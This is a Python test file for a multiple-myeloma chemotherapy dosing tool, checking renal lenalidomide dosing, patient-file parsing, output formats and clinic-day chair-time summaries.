def test_a_filled_column_of_a_drug_without_a_choice_rejects_the_row():
    """A lenalidomide column with 15 in it is never ignored: the row is rejected."""
    text = "id,height,weight,start,lenalidomide\nA,175cm,80kg,2026-01-05,15\nB,175cm,80kg,2026-01-05,\n"
    results = list(schedule_patients(KRD, text.splitlines(), cycles=1, today=DAY))
    assert isinstance(results[0], Rejected)
    assert results[0].message == (
        "lenalidomide column must be empty for KRd, which has no lenalidomide choice (its "
        "choices: carfilzomib, dexamethasone), got '15'"
    )
    assert isinstance(results[1], Scheduled)


def test_age_sex_and_creatinine_give_the_renal_starting_dose_and_the_older_patient_warning():
    """A woman of 82, 60 kg, creatinine 2.4 mg/dL: lenalidomide 15 mg every other day, and a warning."""
    text = "id,height,weight,start,age,sex,creatinine\nA,165cm,60kg,2026-01-05,82,F,2.4mg/dL\n"
    result = _one(text, cycles=1)
    assert _doses(result, "lenalidomide") == [(day, "15 mg") for day in range(1, 22, 2)]
    out = io.StringIO()
    write_cohort_csv(
        out, schedule_patients(KRD, text.splitlines(), cycles=1, today=DAY), protocol=KRD, cycles=1
    )
    notes = [ln for ln in out.getvalue().splitlines() if ln.startswith("# patient A: ")]
    assert notes[0].startswith(
        "# patient A: protocol KRd (cohort), cycles 1 (cohort), height 165 cm, weight 60 kg, "
        "sex female, age 82 years, serum creatinine 2.4 mg/dL,"
    )
    assert notes[1].startswith("# patient A: renal function: CrCl 17.1 mL/min by Cockcroft-Gault")
    assert notes[2].startswith("# patient A: renal starting dose: lenalidomide, US table (default)")
    assert notes[3].startswith("# patient A: WARNING: patient is 82 years old (over 75)")
    assert "# patient facts: age, sex, creatinine from the patients file" in out.getvalue()


def test_the_renal_table_and_clearance_weight_apply_to_every_row():
    """A man of 65, 70 kg, 1.4 mg/dL (CrCl 52.1): 10 mg daily by the US table, 25 mg by the EU one."""
    text = "id,height,weight,start,age,sex,creatinine\nA,170cm,70kg,2026-01-05,65,male,1.4 mg/dL\n"
    assert _doses(_one(text, cycles=1), "lenalidomide") == [(d, "10 mg") for d in range(1, 22)]
    eu = _one(text, cycles=1, renal_table="eu", clearance_weight="actual")
    assert _doses(eu, "lenalidomide") == [(d, "25 mg") for d in range(1, 22)]


def test_dialysis_and_date_of_birth_cells_are_used():
    """Dialysis yes gives lenalidomide 5 mg daily; born 1944-03-10 is 81 on 2026-01-05."""
    text = (
        "id,height,weight,start,dialysis,date_of_birth\n"
        "A,170cm,70kg,2026-01-05,Yes,1944-03-10 00:00:00\n"
    )
    result = _one(text, cycles=1)
    assert _doses(result, "lenalidomide") == [(d, "5 mg") for d in range(1, 22)]
    assert result.schedule.patient.age_on(dt.date(2026, 1, 5)) == 81
    assert any("patient is 81 years old (over 75)" in w for w in result.schedule.warnings())


@pytest.mark.parametrize(
    ("columns", "cells", "fragment"),
    [
        ("creatinine", "1.4mg/dL", "age, sex must be given with a serum creatinine"),
        ("age", "82.5", "age must be a whole number, got '82.5'"),
        ("sex", "w", "sex must be 'female' or 'male', got 'w'"),
        ("dialysis", "maybe", "dialysis must be yes or no, or empty when not known, got 'maybe'"),
        ("date_of_birth", "10/03/1944", "date_of_birth must be an ISO date YYYY-MM-DD"),
        ("date_of_birth", "1944-02-30", "date_of_birth must be a real calendar date"),
    ],
)
def test_a_bad_patient_fact_rejects_its_row(columns, cells, fragment):
    """An unusable fact is refused with its row, never dropped: the dose it would change is unknown."""
    text = f"id,height,weight,start,{columns}\nA,170cm,70kg,2026-01-05,{cells}\n"
    [result] = schedule_patients(KRD, text.splitlines(), cycles=1, today=DAY)
    assert isinstance(result, Rejected)
    assert fragment in result.message


def test_other_columns_are_ignored_and_listed_once(tmp_path, capsys):
    """Ward and Notes columns are read past; stderr names them once, before the rows."""
    text = (
        f"id,Ward,height,weight,start,Notes\nA,4B,175cm,80kg,{START},x\nB,4C,175cm,80kg,{START},\n"
    )
    patients = _write(tmp_path / "p.csv", text)
    out = tmp_path / "o.csv"
    assert _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(out)) == 0
    err = capsys.readouterr().err.splitlines()
    assert err[0] == "dosing: ignored the columns 'Ward', 'Notes' (not used for dosing)"
    assert sum("Ward" in line for line in err) == 1
    assert {r[0] for r in _data_rows(out)} == {"A", "B"}


@pytest.mark.parametrize(
    ("header", "fragment"),
    [
        ("id,hieght,weight,start", "'hieght' (did you mean 'height'?)"),
        ("id,height,wieght,start", "'wieght' (did you mean 'weight'?)"),
        ("id,height,weight,start,creatinin", "'creatinin' (did you mean 'creatinine'?)"),
        (
            "id,height,weight,start,Serum creatinine",
            "'Serum creatinine' (did you mean 'creatinine'?)",
        ),
        ("id,height,weight_kg,start", "'weight_kg' (did you mean 'weight'?)"),
        ("id,height,weight,start,dexamethason", "'dexamethason' (did you mean 'dexamethasone'?)"),
        ("id,height,weight,start,cycle", "'cycle' (did you mean 'cycles'?)"),
    ],
)
def test_a_column_named_like_a_known_one_is_refused_by_name(header, fragment):
    """A look-alike of a known column stops the reading, naming it and the column meant."""
    with pytest.raises(DosingError, match=re.escape(fragment)):
        read_patients([header, "A,175cm,80kg,2026-01-05"])


# -- spreadsheet files -------------------------------------------------------------------------


@pytest.mark.parametrize(("separator", "name"), [(";", "semicolon"), ("\t", "tab")])
def test_semicolon_and_tab_files_give_the_same_output_as_a_comma_file(
    tmp_path, capsys, separator, name
):
    """The same sheet saved with ; or tabs writes the same bytes; stderr says how it was read."""
    rows = [
        ["id", "height", "weight", "start", "choose"],
        ["A", "175cm", "80kg", START, "carfilzomib=36;dexamethasone=20"],
        ["B;1", "1,75m", "80kg", START, ""],
    ]
    outputs = []
    for sep in (",", separator):
        patients = tmp_path / f"p{len(outputs)}.csv"
        with patients.open("w", encoding="utf-8", newline="") as handle:
            csv.writer(handle, delimiter=sep).writerows(rows)
        out = tmp_path / f"o{len(outputs)}.csv"
        args = ("--protocol", "KRd", "--cycles", "1", "--generated-at", "2026-01-01T00:00:00Z")
        assert _run(str(patients), *args, "-o", str(out)) == 0
        outputs.append(out.read_bytes())
    assert outputs[0] == outputs[1]
    assert f"read as {name}-separated" in capsys.readouterr().err
    assert {r[0] for r in _data_rows(tmp_path / "o1.csv")} == {"A", "B;1"}


def test_an_empty_last_header_cell_and_empty_last_cells_are_tolerated():
    """`id,height,weight,start,` and rows ending in empty cells read as four columns."""
    lines = ["id,height,weight,start,", "A,175cm,80kg,2026-01-05,", "B,175cm,80kg,2026-01-05,,,"]
    rows = list(read_patients(lines))
    assert [r.identifier for r in rows] == ["A", "B"]
    assert all(isinstance(r, PatientRow) for r in rows)


def test_a_value_under_an_unnamed_column_rejects_its_row():
    """Something in a cell beyond the named columns is refused, not silently dropped."""
    [row] = read_patients(["id,height,weight,start,", "A,175cm,80kg,2026-01-05,x"])
    assert isinstance(row, Rejected)
    assert row.message == "row must have 4 cells like the header, got 5"


@pytest.mark.parametrize(
    "cell",
    [
        "2026-01-05T00:00:00",
        "2026-01-05 00:00:00",
        "2026-01-05 00:00",
        "2026/1/5",
        "2026-1-5",
        "2026-01-05T00:00:00.000",
    ],
)
def test_dates_as_spreadsheets_write_them_are_read(cell):
    """A date cell saved with a midnight time, or year first with slashes, is that date."""
    result = _one(
        f"id,height,weight,start,date_of_birth\nA,175cm,80kg,{cell},1950-01-01T00:00:00", cycles=1
    )
    assert result.schedule.start == dt.date(2026, 1, 5)
    assert result.schedule.patient.date_of_birth == dt.date(1950, 1, 1)


@pytest.mark.parametrize(
    ("cell", "fragment"),
    [
        ("2026-01-04T23:00:00", "a time of day may come from a time zone shifting the date"),
        ("2026-01-05T00:00:00Z", "start must be an ISO date YYYY-MM-DD"),
        ("05/01/2026", "day/month order is ambiguous; write 2026-01-05 or 2026-05-01"),
    ],
)
def test_dates_that_could_mean_two_days_are_refused(cell, fragment):
    """A time other than midnight, a time zone or day and month first: the row is rejected."""
    [result] = schedule_patients(
        KRD, ["id,height,weight,start", f"A,175cm,80kg,{cell}"], cycles=1, today=DAY
    )
    assert isinstance(result, Rejected)
    assert fragment in result.message


# -- nothing written when nothing is good ----------------------------------------------------

ALL_BAD = "id,height,weight,start\nA,1cm,80kg,2026-01-05\nB,175cm,80kg,03/04/2026\n"


@pytest.mark.parametrize("output", ["all.csv", "all.jsonl", "calendars/", "calendars"])
def test_when_every_row_is_rejected_no_output_is_written(tmp_path, capsys, output):
    """Every row rejected: no combined file, no folder, no clinic days; exit 2 with a last line saying so."""
    patients = _write(tmp_path / "p.csv", ALL_BAD)
    args = ["--protocol", "KRd", "--clinic-days", str(tmp_path / "days.csv")]
    assert _run(str(patients), *args, "-o", str(tmp_path / output)) == 2
    err = capsys.readouterr().err.splitlines()
    assert err[-1] == "dosing: every row was rejected (2 rows); nothing was written"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["p.csv"]


def test_when_every_row_is_rejected_an_old_file_is_kept(tmp_path):
    """With --force and every row rejected, the previous combined file stays as it was."""
    patients = _write(tmp_path / "p.csv", ALL_BAD)
    out = _write(tmp_path / "all.csv", "the previous run")
    assert _run(str(patients), "--protocol", "KRd", "-o", str(out), "--force") == 2
    assert out.read_text() == "the previous run"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["all.csv", "p.csv"]


# -- readers: pandas and JSON Lines -----------------------------------------------------------


def _unquoted_hashes(line: str) -> int:
    """How many ``#`` of a CSV line stand outside quoted cells (where a comment would start)."""
    count, quoted = 0, False
    for char in line:
        if char == '"':
            quoted = not quoted
        elif char == "#" and not quoted:
            count += 1
    return count


def test_an_identifier_with_a_hash_survives_the_documented_readers(tmp_path):
    """`MRN #1` reads back whole: every `#` in a data line is inside quotes, and the csv recipe keeps it."""
    text = f'id,height,weight,start\nMRN #1,175cm,80kg,{START}\n"#2, x",175cm,80kg,{START}\n'
    patients = _write(tmp_path / "p.csv", text)
    out = tmp_path / "all.csv"
    assert _run(str(patients), "--protocol", "KRd", "--cycles", "1", "-o", str(out)) == 0
    with out.open(encoding="utf-8", newline="") as handle:  # the recipe in docs/cohort.md
        table = list(csv.DictReader(line for line in handle if not line.startswith("#")))
    assert collections.Counter(r["patient"] for r in table) == {"MRN #1": 31, "#2, x": 31}
    data = [ln for ln in out.read_text(encoding="utf-8").splitlines() if not ln.startswith("#")]
    assert all(_unquoted_hashes(line) == 0 for line in data)
    assert data[1].startswith('"MRN #1",KRd,')


def test_json_lines_hold_one_whole_document_per_patient(tmp_path):
    """-o all.jsonl: one line per written patient, each the JSON document of `dosing calendar`."""
    patients = _write(tmp_path / "p.csv", MIXED)
    out = tmp_path / "all.jsonl"
    args = ("--protocol", "D-KRd", "--cycles", "2", "--generated-at", "2026-01-01T00:00:00Z")
    assert _run(str(patients), *args, "-o", str(out)) == 2
    lines = out.read_text(encoding="utf-8").split("\n")
    assert lines[-1] == ""
    documents = [json.loads(line) for line in lines[:-1]]
    assert [d["patient"]["identifier"] for d in documents] == GOOD_IDS
    expected = json.loads(
        dosing.export.render(
            _expected_schedule("5 ft 9 in", "176lb", {"dexamethasone": "20"}, identifier="P003"),
            "json",
            generated_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC),
        )
    )
    assert documents[1] == expected


def test_json_lines_is_a_cohort_format_not_a_per_patient_one():
    """The registry marks JSON Lines and CSV as combined cohort files; --format never offers jsonl."""
    from dosing.export.formats import REGISTRY

    assert [f.name for f in REGISTRY.values() if f.cohort] == ["csv", "jsonl"]
    assert not REGISTRY["jsonl"].per_patient
    assert "jsonl" not in dosing.cohort.EXTENSIONS


def test_format_is_refused_for_json_lines(tmp_path, capsys):
    """--format with -o all.jsonl is an error naming --format; nothing is written."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    out = tmp_path / "o.jsonl"
    assert _run(str(patients), "--protocol", "KRd", "-o", str(out), "--format", "csv") == 2
    assert "--format must be used only when -o is a folder" in capsys.readouterr().err
    assert not out.exists()


# -- clinic days ---------------------------------------------------------------------------

#: Four patients, one cycle each: KRd from Monday 5 and Tuesday 6 January 2026, D-KRd from
#: Monday 5, D-KRd-SC from Wednesday 7. Carfilzomib (IV, 30 min) on days 1, 2, 8, 9, 15, 16;
#: daratumumab IV (no infusion time in its file) or SC on days 1, 8, 15, 22.
CLINIC = (
    "id,height,weight,start,protocol\n"
    "P1,175cm,80kg,2026-01-05,KRd\n"
    "P2,175cm,80kg,2026-01-06,KRd\n"
    "P3,175cm,80kg,2026-01-05,D-KRd\n"
    "P4,175cm,80kg,2026-01-07,D-KRd-SC\n"
    "P5,175kg,80kg,2026-01-05,KRd\n"
)
#: Worked by hand from the days above: date, weekday, patients, IV, SC/IM, chair minutes,
#: IV without a time, their drugs.
CLINIC_DAYS = [
    ["2026-01-05", "Mon", "2", "3", "0", "60", "1", "daratumumab"],  # P1 K; P3 K + D
    ["2026-01-06", "Tue", "3", "3", "0", "90", "0", ""],  # P1, P2, P3 K
    ["2026-01-07", "Wed", "2", "2", "1", "60", "0", ""],  # P2 K; P4 K + D SC
    ["2026-01-08", "Thu", "1", "1", "0", "30", "0", ""],  # P4 K
    ["2026-01-12", "Mon", "2", "3", "0", "60", "1", "daratumumab"],
    ["2026-01-13", "Tue", "3", "3", "0", "90", "0", ""],
    ["2026-01-14", "Wed", "2", "2", "1", "60", "0", ""],
    ["2026-01-15", "Thu", "1", "1", "0", "30", "0", ""],
    ["2026-01-19", "Mon", "2", "3", "0", "60", "1", "daratumumab"],
    ["2026-01-20", "Tue", "3", "3", "0", "90", "0", ""],
    ["2026-01-21", "Wed", "2", "2", "1", "60", "0", ""],
    ["2026-01-22", "Thu", "1", "1", "0", "30", "0", ""],
    ["2026-01-26", "Mon", "1", "1", "0", "0", "1", "daratumumab"],  # P3 D day 22
    ["2026-01-28", "Wed", "1", "0", "1", "0", "0", ""],  # P4 D SC day 22
]


def _clinic_csv(text: str) -> list[list[str]]:
    return list(csv.reader(ln for ln in text.splitlines() if not ln.startswith("#")))


def test_clinic_days_count_patients_administrations_and_chair_time_by_hand():
    """Per date: patients in clinic, IV and SC doses, chair minutes; daratumumab IV named as untimed."""
    days = ClinicDays()
    results = schedule_patients(None, CLINIC.splitlines(), cycles=1, today=DAY)
    summary = write_cohort_jsonl(io.StringIO(), results, on_written=lambda r: days.add(r.schedule))
    assert (summary.patients, summary.rejected) == (4, 1)
    text = days.to_csv(generated_at=dt.datetime(2026, 1, 1, tzinfo=dt.UTC))
    table = _clinic_csv(text)
    assert table[0] == [
        "date",
        "weekday",
        "patients",
        "iv",
        "sc_im",
        "chair_minutes",
        "iv_without_time",
        "drugs_without_time",
    ]
    assert table[1:] == CLINIC_DAYS
    head = [ln for ln in text.splitlines() if ln.startswith("#")]
    assert "# infusion times used: carfilzomib 30 min (D-KRd, D-KRd-SC, KRd)" in head
    assert "# no infusion time in the protocol file: daratumumab (D-KRd)" in head
    assert head[-1] == f"# NOTICE: {dosing.VERIFICATION_NOTICE}"


def test_clinic_days_are_written_beside_any_output_and_byte_identical_on_rerun(tmp_path, capsys):
    """--clinic-days with a folder or a combined file: the same bytes each run with --generated-at."""
    patients = _write(tmp_path / "p.csv", MIXED)
    texts = []
    for i, output in enumerate(["a.csv", "a.jsonl", "cal/"]):
        days = tmp_path / f"days{i}.csv"
        args = ("--protocol", "D-KRd", "--cycles", "2", "--generated-at", "2026-01-01T00:00:00Z")
        assert (
            _run(str(patients), *args, "-o", str(tmp_path / output), "--clinic-days", str(days))
            == 2
        )
        texts.append(days.read_bytes())
        assert "clinic day" in capsys.readouterr().err.splitlines()[-2]
    assert texts[0] == texts[1] == texts[2]
    table = _clinic_csv(texts[0].decode("utf-8"))
    assert table[1][:3] == [START, _WEEKDAY[dt.date.fromisoformat(START).weekday()], "3"]
    assert texts[0].count(b"\r\n") == texts[0].count(b"\n")


_WEEKDAY = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")


def test_an_existing_clinic_days_file_needs_force_and_is_checked_before_any_work(tmp_path, capsys):
    """An existing --clinic-days file stops the run at once (nothing written) unless --force."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    days = _write(tmp_path / "days.csv", "keep me")
    out = tmp_path / "all.csv"
    assert _run(str(patients), "--protocol", "KRd", "-o", str(out), "--clinic-days", str(days)) == 2
    assert capsys.readouterr().err.count("\n") == 1
    assert not out.exists()
    assert days.read_text() == "keep me"
    args = (str(patients), "--protocol", "KRd", "-o", str(out), "--clinic-days", str(days))
    assert _run(*args, "--force") == 0
    assert days.read_text(encoding="utf-8").startswith("# cohort clinic days")


def test_clinic_days_cannot_be_the_output_file(tmp_path, capsys):
    """--clinic-days naming the -o file is refused in one line."""
    patients = _write(tmp_path / "p.csv", f"id,height,weight,start\nA,175cm,80kg,{START}\n")
    out = tmp_path / "all.csv"
    assert _run(str(patients), "--protocol", "KRd", "-o", str(out), "--clinic-days", str(out)) == 2
    assert "--clinic-days must be another file than -o" in capsys.readouterr().err
    assert not out.exists()


def test_combined_outputs_are_byte_identical_on_rerun(tmp_path):
    """With --generated-at, the combined CSV and JSON Lines are the same bytes run after run."""
    patients = _write(tmp_path / "p.csv", MIXED)
    for name in ("all.csv", "all.jsonl"):
        seen = []
        for run in range(2):
            out = tmp_path / f"{run}-{name}"
            args = (
                "--protocol",
                "D-KRd",
                "--cycles",
                "2",
                "--generated-at",
                "2026-01-01T00:00:00Z",
            )
            _run(str(patients), *args, "-o", str(out))
            seen.append(out.read_bytes())
        assert seen[0] == seen[1]


def test_the_combined_rows_follow_columns_added_to_the_table(monkeypatch):
    """A column added to the table comes out cell for cell, as row() gives it, after the weekday."""
    from dosing import cohort

    assert cohort._PLAIN  # the table's columns today take the quick way ...
    schedule = _expected_schedule("175cm", "80kg", identifier="P1")
    quick = cohort._patient_csv("P1", schedule, cohort._Encoder())
    real_row = cohort.row

    class Wider:
        def __init__(self, admin: dosing.Administration) -> None:
            self.admin = admin

        def cells(self) -> tuple[object, ...]:
            extra = f"#{self.admin.drug[:3]} {self.admin.day}"  # varies by drug and day
            return (*real_row(self.admin).cells(), extra)

    monkeypatch.setattr(cohort, "_PLAIN", False)  # ... which the cell-by-cell way must match
    assert cohort._patient_csv("P1", schedule, cohort._Encoder()) == quick
    monkeypatch.setattr(cohort, "row", Wider)
    monkeypatch.setattr(cohort, "_RUNS", cohort._runs((*dosing.export._common.COLUMNS, "note")))
    text = cohort._patient_csv("P1", schedule, cohort._Encoder())
    table = list(csv.reader(io.StringIO(text)))
    expected = [
        ["P1", "D-KRd", *(str(c) for c in Wider(a).cells())] for a in schedule.administrations
    ]
    assert table == expected
    assert table[0][2:4] == [START, _WEEKDAY[dt.date.fromisoformat(START).weekday()]]
    assert table[1][-1] == "#car 1"
